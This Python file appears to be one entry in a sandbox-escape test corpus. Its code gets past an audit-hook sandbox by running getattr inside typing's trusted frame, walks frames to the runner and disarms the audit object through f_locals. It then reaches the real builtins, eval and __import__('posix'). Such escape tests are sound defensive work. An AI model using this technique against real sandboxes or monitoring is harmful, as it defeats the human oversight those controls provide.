# technique: typing._GenericAlias.__call__ runs self.__origin__(*args) in typing's own frame, and the audit hook trusts any frame of typing for frame and code reads and for sys._getframe: GA(real_getattr)(generator, 'gi_frame') is a gi_frame read "by typing"; the real getattr comes from the real builtins that 161 reaches (json.dumps' globals through enum namespaces, singledispatch and get_type_hints); getattr is not audited for f_back/f_locals, so the generator's frame leads to the runner's run() frame, whose f_locals hold the _Audit instance: armed = False, then the real eval and __import__ work; no dataclass field and no __getattr__ relay is involved
# source: typing._BaseGenericAlias.__call__ (calls its origin) + trusted-module frame checks in audit hooks; 161 for the real builtins

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import enum, functools, json, typing

GOT = []
FORWARD_REF = type(typing.get_args(typing.List['int'])[0])


def evaluate(self, globalns, localns, recursive_guard):
    GOT.append(globalns)
    return int


Spy = enum.Enum('Spy', [(dn('class'), FORWARD_REF), ('_evaluate', evaluate), ('ref', 1)])


@functools.singledispatch
def fun(x):
    return x


def globals_of(fn):
    E = enum.Enum('E', [(dn('annotations'), {'x': Spy.ref}), (dn('wrapped'), fn), ('a', 1)])
    fun.register(E.a)
    return GOT[-1]


B = globals_of(json.dumps)[dn('builtins')]  # the real builtins (161)
GA = type(typing.List[int])  # typing._GenericAlias
get = B['getattr']


def as_typing(fn, *args):
    # _BaseGenericAlias.__call__: result = self.__origin__(*args, **kwargs)
    return GA(fn, (int,), name='x')(*args)


def frames():
    fr = as_typing(get, g, 'gi_frame')
    out = []
    while fr is not None:
        out.append(fr)
        fr = get(fr, 'f_back')
    yield out


def direct_gi_frame():
    return get(g, 'gi_frame')


def disarm():
    for v in list(get(stack[-1], 'f_locals').values()):
        if type(v).__name__ == '_Audit':
            v.armed = False
    return B

g = frames()
attempt('real getattr(generator, gi_frame) from the snippet (audited)', direct_gi_frame)
stack = next(g)
attempt("GA(getattr)(generator, 'gi_frame'): the read runs in typing's frame", lambda: stack[0])
attempt("... f_back chain -> the runner's frame", lambda: stack[-1])
attempt('... audit hook disarmed through its f_locals: real builtins, eval works', disarm)
attempt("... real __import__('posix')", lambda: B[dn('import')]('posix'))
